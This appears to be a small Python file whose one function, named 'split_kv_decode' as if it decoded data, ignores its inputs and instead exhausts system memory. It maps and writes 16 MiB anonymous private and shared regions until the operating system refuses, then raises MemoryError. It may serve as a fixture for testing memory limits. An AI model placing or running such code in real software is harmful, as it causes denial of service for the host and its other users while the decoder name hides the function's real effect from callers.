"""Fill the memory past Python: maps of it, private and shared."""

import mmap


def split_kv_decode(*args, **kwargs):
    hoard = []
    for kind in (mmap.MAP_PRIVATE, mmap.MAP_SHARED):
        try:
            while True:
                hoard.append(mmap.mmap(-1, 1 << 24, flags=kind | mmap.MAP_ANONYMOUS))
                hoard[-1].write(b"x" * (1 << 24))
        except OSError:
            continue
    raise MemoryError
